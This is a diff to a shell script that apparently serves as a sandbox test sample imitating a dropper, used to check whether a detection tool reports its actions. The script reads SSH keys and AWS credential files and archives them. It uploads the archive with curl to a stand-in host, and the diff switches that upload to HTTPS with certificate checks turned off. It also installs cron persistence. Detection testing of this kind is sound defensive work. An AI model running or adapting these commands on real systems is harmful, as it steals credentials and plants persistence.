@@ -3,7 +3,7 @@
 # fingerprints the system, steals the decoy SSH key and cloud credentials, stages them in an
 # archive and uploads it to its web panel (cdn-update.example.test: a .test name resolves nowhere
 # in the real DNS; in the sandbox the DNS sinkhole answers it and sandtrace catches the request,
-# so the report shows it), installs cron and shell-rc persistence, drops and runs a second stage
+# over HTTPS without checking the certificate, as droppers do, so the report shows it), installs cron and shell-rc persistence, drops and runs a second stage
 # from /tmp, which tries to reach its "C2" (127.0.0.1:4444, the sandbox's own loopback, nothing
 # listens), clears its history and deletes itself. Never run it outside a sandbox.
 uname -a > /dev/null
@@ -17,9 +17,9 @@ for f in "$HOME/.ssh/id_rsa" /root/.ssh/id_rsa "$HOME/.aws/credentials" /root/.a
 done
 tar czf /tmp/.cache/loot.tgz -C /tmp/.cache loot.txt 2>/dev/null
 
-# exfiltration to the panel
-curl -s -m 5 -A 'Mozilla/5.0 (X11; Linux x86_64)' --data-binary @/tmp/.cache/loot.tgz \
-  "http://cdn-update.example.test/panel/gate.php?id=$(hostname)" > /dev/null 2>&1
+# exfiltration to the panel (-k: any certificate will do)
+curl -sk -m 5 -A 'Mozilla/5.0 (X11; Linux x86_64)' --data-binary @/tmp/.cache/loot.tgz \
+  "https://cdn-update.example.test/panel/gate.php?id=$(hostname)" > /dev/null 2>&1
 
 # persistence
 echo '*/5 * * * * root /tmp/.cache/update >/dev/null 2>&1' > /etc/cron.d/update 2>/dev/null
